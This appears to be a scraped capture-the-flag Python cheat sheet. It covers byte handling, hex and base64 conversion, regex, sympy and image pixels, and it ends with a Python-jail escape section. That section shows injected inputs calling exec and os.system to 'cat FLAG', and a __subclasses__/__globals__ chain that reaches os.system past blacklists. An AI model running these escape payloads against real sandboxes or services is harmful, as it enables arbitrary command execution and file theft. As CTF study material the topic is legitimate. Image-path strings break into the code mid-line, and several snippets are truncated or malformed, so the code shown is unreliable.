Coding Quick Reference




packets = rdpcap("/spare/captures/isakmp.cap")

Read/Write File

The below code reads a file from a particular offset and reads/skips and write bytes.

""" Read bytes and write output"""

# Write output in a file
output = open("", "wb")

# Open a file
with open ("output.bmp", "rb") as file:
    # Start reading from
    hdr =
    skip =
    while skip:
        keep =
        skip =A file might contains few patterns representing binary (0 & 1). pwnutils can be used to read the file and replace the patterns.

from pwn import *

with open("whitepages.txt", "rb") as bin_file:
    data = bytearray(
    data = data.replace(b'\xe2\x80\x83', b'0')data = data.replace(b'\x20', b'1')
    data = data.decode("ascii")


Random Seed

# seed a pseudorandom number generator with the time

The random number generator in the original script was seeded with the time, but only to the second. If the above is used in sending the packets. The arrival time for the first packet should be close enough of an approximation to get the same seed (if not, I could subtract a few seconds until it works).Use python

  • [::-1]means

    Assumming a is a string. The Slice notation in python has the syntax -


So, when you do a[::-1] , it starts from the end, towards the first, taking each element. So it reverses a. This is applicable for lists/tuples as well.


>>> a = '1232'
>>> a[::-1]
  • binascii.unhexlify(hexstr) to convert hex to string

  •base64.decodestring(str) to decode base64 string

  •Convert number to hex

  • Convert hex to decimal

s ="6a48f82d8e828ce82b82"
i = int(s, 16)
  • Extract numbers from a string: Use a regexp :

>>> import re
>>>re.findall(r'\d+', 'hello 42 I\'m a 32 string 30')
['42', '32', '30']

This would also match 42 from bla42bla. If you only want numbers delimited by word boundaries (space, period, comma), you can use b :

>>> re.findall(r'\b\d+\b', 'he33llo 42 I\'m a 32 string 30')
['42', '32', '30']
  • Extract string inside single quotes using python script

Use re.findall:

>>> import re
>>> strs = """text:u'MUC-EC-099_SC-Memory-01_TC-25'

>>> re.findall(r"'(.*?)'", strs, re.DOTALL)
  • ASCII value of a character in Python

function ord() would get the int value of the char. And in case you want to convert back after playing with the number, function chr() does the trick.

>>> ord('a')
  • Solving Algebraic equations using python:Use sympy Use solve() to solve algebraic equations. We suppose all equations are equaled to 0, so solving x**2 == 1 translates into the following code:

>>> from sympy.solvers import solve
>>> from sympy import Symbol
>>> x = Symbol('x')
>>> solve(x**2 - 1, x)
[-1, 1]

The first argument for solve() is an equation (equaled to zero) and the second argument is the symbol that we want to solve the equation for.

  • AVL Tree Implementation in Python : python-avl-tree

  • Convert all strings in a list to int So if we have:

results = ['1', '2', '3']

How do I make it:

results = [1, 2, 3]

Use the map function(in py2):
results = map(int, results)

In py3:

results = list(map(int, results))
  • Read the RGB value of a given pixel in Python?

from PIL import Image
im ="dead_parrot.jpg") #Can be many different formats.
pix = im.load()
print im.size #Get the width and hight of the image for iterating over
print pix[x,y] #Get the RGBA Value of the a pixel of an image
pix[x,y] = value # Set the RGBA Value of the image (tuple)"alive_parrot.png") # Save the modified pixels as png
  • Convert Text to Binary and back?>>> import binascii
    >>> bin(int(binascii.hexlify('hello'), 16))

In reverse:

>>> n = int('0b110100001100101011011000110110001101111', 2)
>>> binascii.unhexlify('%x' % n)
  • function ord() would get the intvalue of the char. And in case you want to convert back after playing with the number, function chr() does the trick.

>>> ord('a')
>>> chr(97)
>>> chr(ord('a') + 3)
  • String formating of numbers in python (Print 0000 - 9999)

>>> for i in xrange(10):
...     '{0:04}'.format(i)
  • Insert a newline character every 64 characters using Python

s = "0123456789"*100 # test string
import re
print re.sub("(.{64})", "\\1\n", s, 0, re.DOTALL)
  • Having a function where you can provide parameter in online webform? Like there is a function definition like def fun() where we can pass twoarguments, that are interpreted.

    def fun(User_Input):
        c = a + b
            return c


1.   a,b=dir()[0]
2.   a,b=print("Hello")
3.   a,b=print(exec("import os"),eval("os.listdir('.')"))

Cat a file?

1.   a, b, c = __import__('os').system('cat FLAG')
2.   a,b=print(open("FLAG", "r").read())The above should work fine till there are no blacklist wordlist provided.

Let’s craft a payload to bypass the blacklist.

Create a string class (also works with list or dict)

>>> ''.__class__
<class 'str'>

Now we need the parent class, there is two ways:

>>> ''.__class__.__base__
<class 'object'>
>>> ''.__class__.__mro__
(<class 'str'>, <class 'object'>)
>>> ''.__class__.__mro__[1]
<class 'object'>

Now we have the object class. So we can access to all the child classes:

>>> ''.__class__.__base__.__subclasses__()
[<class 'type'>, <class 'weakref'>, <class 'weakcallableproxy'>, <class 'weakproxy'>, <class 'int'>, <class 'bytearray'>, <class 'bytes'>, <class 'list'>, <class 'NoneType'>, <class 'NotImplementedType'>, <class 'traceback'>, <class 'super'>, <class 'range'>, <class 'dict'>, <class 'dict_keys'>, <class 'dict_values'>, <class 'dict_items'>, <class 'odict_iterator'>, <class 'set'>, <class 'str'>, <class 'slice'>, <class 'staticmethod'>, <class 'complex'>, <class 'float'>, <class 'frozenset'>, <class 'property'>, <class 'managedbuffer'>, <class 'memoryview'>, <class 'tuple'>, <class 'enumerate'>, <class 'reversed'>, <class 'stderrprinter'>, <class 'code'>, <class 'frame'>, <class 'builtin_function_or_method'>, <class 'method'>, <class 'function'>, <class 'mappingproxy'>, <class 'generator'>, <class 'getset_descriptor'>, <class'wrapper_descriptor'>, <class 'method-wrapper'>, <class 'ellipsis'>, <class 'member_descriptor'>, <class 'types.SimpleNamespace'>, <class 'PyCapsule'>, <class'longrange_iterator'>, <class 'cell'>, <class 'instancemethod'>, <class 'classmethod_descriptor'>, <class 'method_descriptor'>, <class 'callable_iterator'>, <class 'iterator'>, <class 'coroutine'>, <class 'coroutine_wrapper'>, <class 'moduledef'>, <class 'module'>, <class 'EncodingMap'>, <class 'fieldnameiterator'>, <class 'formatteriterator'>, <class 'filter'>, <class 'map'>, <class 'zip'>, <class 'BaseException'>, <class 'hamt'>, <class 'hamt_array_node'>, <class 'hamt_bitmap_node'>, <class 'hamt_collision_node'>, <class 'keys'>, <class 'values'>, <class 'items'>, <class 'Context'>, <class 'ContextVar'>, <class 'Token'>, <class'Token.MISSING'>, <class '_frozen_importlib._ModuleLock'>, <class '_frozen_importlib._DummyModuleLock'>, <class '_frozen_importlib._ModuleLockManager'>, <class '_frozen_importlib._installed_safely'>, <class '_frozen_importlib.ModuleSpec'>, <class '_frozen_importlib.BuiltinImporter'>, <class 'classmethod'>, <class '_frozen_importlib.FrozenImporter'>, <class '_frozen_importlib._ImportLockContext'>, <class '_thread._localdummy'>, <class '_thread._local'>, <class '_thread.lock'>, <class '_thread.RLock'>, <class 'zipimport.zipimporter'>, <class '_frozen_importlib_external.WindowsRegistryFinder'>, <class '_frozen_importlib_external._LoaderBasics'>, <class '_frozen_importlib_external.FileLoader'>, <class '_frozen_importlib_external._NamespacePath'>, <class '_frozen_importlib_external._NamespaceLoader'>, <class '_frozen_importlib_external.PathFinder'>, <class '_frozen_importlib_external.FileFinder'>, <class '_io._IOBase'>, <class '_io._BytesIOBuffer'>, <class '_io.IncrementalNewlineDecoder'>, <class 'posix.ScandirIterator'>, <class 'posix.DirEntry'>, <class 'codecs.Codec'>, <class 'codecs.IncrementalEncoder'>, <class 'codecs.IncrementalDecoder'>, <class 'codecs.StreamReaderWriter'>, <class 'codecs.StreamRecoder'>, <class '_abc_data'>, <class 'abc.ABC'>, <class'dict_itemiterator'>, <class ''>, <class ''>, <class ''>, <class 'async_generator'>, <class ''>, <class 'bytes_iterator'>, <class 'bytearray_iterator'>, <class 'dict_keyiterator'>,<class 'dict_valueiterator'>, <class 'list_iterator'>, <class 'list_reverseiterator'>, <class 'range_iterator'>, <class 'set_iterator'>, <class 'str_iterator'>, <class 'tuple_iterator'>, <class ''>, <class ''>, <class ''>, <class'os._wrap_close'>, <class '_sitebuiltins.Quitter'>, <class '_sitebuiltins._Printer'>, <class '_sitebuiltins._Helper'>, <class 'types.DynamicClassAttribute'>, <class 'types._GeneratorWrapper'>, <class 'warnings.WarningMessage'>, <class 'warnings.catch_warnings'>, <class ''>, <class ''>, <class ''>, <class 'operator.itemgetter'>, <class 'operator.attrgetter'>, <class 'operator.methodcaller'>, <class 'itertools.accumulate'>, <class 'itertools.combinations'>, <class 'itertools.combinations_with_replacement'>, <class 'itertools.cycle'>, <class 'itertools.dropwhile'>, <class 'itertools.takewhile'>, <class 'itertools.islice'>, <class 'itertools.starmap'>, <class 'itertools.chain'>, <class 'itertools.compress'>, <class 'itertools.filterfalse'>, <class 'itertools.count'>, <class 'itertools.zip_longest'>, <class 'itertools.permutations'>, <class 'itertools.product'>, <class 'itertools.repeat'>, <class 'itertools.groupby'>, <class 'itertools._grouper'>, <class 'itertools._tee'>, <class 'itertools._tee_dataobject'>, <class 'reprlib.Repr'>, <class 'collections.deque'>, <class '_collections._deque_iterator'>, <class '_collections._deque_reverse_iterator'>, <class 'collections._Link'>, <class 'functools.partial'>, <class 'functools._lru_cache_wrapper'>, <class'functools.partialmethod'>, <class 'contextlib.ContextDecorator'>, <class 'contextlib._GeneratorContextManagerBase'>, <class'contextlib._BaseExitStack'>, <class 'rlcompleter.Completer'>]

Let’s find a more suitable way to access the subclasses by index:

>>> for i,val in enumerate(''.__class__.__mro__[1].__subclasses__()):
...   print(i,': ',val)

Using __init__ to initialize the class and __globals__ to access the global namespace of the module in which the function was defined.

pyjail WU was able to call sys from codecs.StreamReaderWriter class.

<class'codecs.StreamReaderWriter'>`

So from this namespace we are able to callsys.

>>> ''.__class__.__mro__[1].__subclasses__()[104].__init__.__globals__["sys"]
<module 'sys' (built-in)>

Then it’s easy to import os:

>>> ''.__class__.__mro__[1].__subclasses__()[104].__init__.__globals__["sys"].modules["os"]
<module 'os' from '/usr/lib/python3.7/'>

And finally using system method to launch a system command and read the flag:''.__class__.__mro__[1].__subclasses__()[104].__init__.__globals__["sys"].modules["os"].system("cat FLAG")

However if “.” and “__” are also blacklisted then we can use

  • Without . to call method, we can use getattr instead

  • Without __import__, we can use catch_warnings in {}.__class__.__base__.__subclasses__()

